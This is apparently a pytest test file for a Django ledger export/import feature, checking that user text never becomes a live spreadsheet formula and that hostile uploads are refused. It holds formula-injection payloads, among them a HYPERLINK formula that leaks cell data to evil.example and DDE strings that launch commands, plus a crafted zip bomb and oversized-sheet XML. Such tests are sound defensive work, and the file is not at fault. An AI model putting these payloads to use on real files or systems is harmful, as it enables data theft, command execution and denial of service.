"""The ledger as an attack surface: user text never becomes a live formula in the export, and a
hostile upload is refused before openpyxl does unbounded work."""

from __future__ import annotations

import datetime
import io
import re
import zipfile
from typing import Any

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from mingjian.lib.xlsx import FORMULA_TRIGGERS, safe_row
from mingjian.org.tests.factories import PersonFactory
from mingjian.rectification import ledger
from mingjian.rectification.models import Task
from mingjian.rectification.tests.factories import TaskFactory
from mingjian.rectification.tests.ledger_helpers import errors, row, upload

NOW = datetime.datetime(2026, 11, 20, 9, tzinfo=datetime.UTC)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _frozen() -> Any:
    with time_machine.travel(NOW, tick=False):
        yield


def _export(client: Client, user: Any) -> bytes:
    client.force_login(user)
    response = client.get(reverse("rectification:ledger-export"))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_user_text_that_looks_like_a_formula_is_exported_as_text(client: Client, org: Any) -> None:
    for i, text in enumerate(HOSTILE):
        task = TaskFactory(
            problem__unit=org.bureau_a,
            problem__issuer=org.commission,
            problem__title=f"{text}问题{i}",
            measure=text,
            progress=text,
        )
        person = PersonFactory(unit=org.bureau_a, name=text[:20])  # 干部名册 names are user text too
        task.responsibilities.update(person=person)
    data = _export(client, org.inspector)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    ws = load_workbook(io.BytesIO(data))[ledger.SHEET]  # formulas would stay formulas here
    cells = [c for row in ws.iter_rows(min_row=4) for c in row if isinstance(c.value, str)]
    risky = [c for c in cells if c.value.startswith(FORMULA_TRIGGERS)]
    assert {c.value for c in risky} >= set(HOSTILE)  # exactly as written, nothing prepended
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    ordinary = [c for c in cells if not c.value.startswith(FORMULA_TRIGGERS)]
    assert ordinary and not any(c.quotePrefix for c in ordinary)


def test_safe_row_leaves_other_values_alone() -> None:
    ws = Workbook(write_only=True).create_sheet("s")
    values = ["整改", 3, 2.5, None, datetime.date(2026, 1, 2), "a=b", "", "中-文"]
    assert safe_row(ws, values) == values
    cell = safe_row(ws, ["=1"])[0]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1", "s", True)


def _ledger(rows: int = 1) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = ledger.SHEET
    ws.append(list(ledger.COLUMNS))
    for i in range(rows):
        ws.append([i + 1, *row(问题="问题", 整改措施="措施", 责任领导="boss", 完成时限="2027-01-01")[1:]])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _with_sheet(data: bytes, rewrite: Any) -> bytes:
    """The same workbook with xl/worksheets/sheet1.xml passed through `rewrite`."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            body = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                body = rewrite(body.decode()).encode()
            dst.writestr(item.filename, body)
    return out.getvalue()


def _import_errors(client: Client, org: Any, data: bytes) -> list[str]:
    before = Task.objects.count()
    found = errors(upload(client, org.inspector, data))
    assert Task.objects.count() == before
    return found


def test_an_inflating_archive_is_refused_before_parsing(client: Client, org: Any) -> None:
    padding = " " * (ledger.MAX_MEMBER_BYTES + 1)  # more XML than allowed, zipped to a few KB
    bomb = _with_sheet(_ledger(), lambda xml: xml.replace("</worksheet>", padding + "</worksheet>"))
    assert len(bomb) < 100_000
    errors = _import_errors(client, org, bomb)
    assert any("解压后过大" in e and "拒绝读取" in e for e in errors), errors


def test_rows_numbered_far_away_are_refused(client: Client, org: Any) -> None:
    """A claimed dimension and a row numbered past the cap must not make the reader walk
    thousands of empty rows (a million, in the hostile version of this file)."""
    far = ledger.MAX_SHEET_ROWS + 1

    def stretch(xml: str) -> str:
        xml = re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="A1:Z{far}"/>', xml)
        last = f'<row r="{far}"><c r="A{far}" t="inlineStr"><is><t>尾</t></is></c></row>'
        return xml.replace("</sheetData>", last + "</sheetData>")

    errors = _import_errors(client, org, _with_sheet(_ledger(), stretch))
    assert errors == [f"表格超过 {ledger.MAX_SHEET_ROWS} 行（含空行），请删去空行或分批导入。"]


def test_a_million_row_sheet_with_16384_columns_is_refused(client: Client, org: Any) -> None:
    def stretch(xml: str) -> str:
        xml = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', xml)
        last = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>尾</t></is></c></row>'
        return xml.replace("</sheetData>", last + "</sheetData>")

    errors = _import_errors(client, org, _with_sheet(_ledger(), stretch))
    assert any("表格超过" in e for e in errors), errors


def test_a_wide_row_reads_only_the_known_columns(org: Any) -> None:
    def widen(xml: str) -> str:
        cell = '<c r="XFD2" t="inlineStr"><is><t>远</t></is></c>'
        return xml.replace("</row></sheetData>", cell + "</row></sheetData>", 1)

    rows = ledger.read_rows(_with_sheet(_ledger(), widen))
    assert len(rows) == 1 and rows[0][1]["问题"] == "问题"
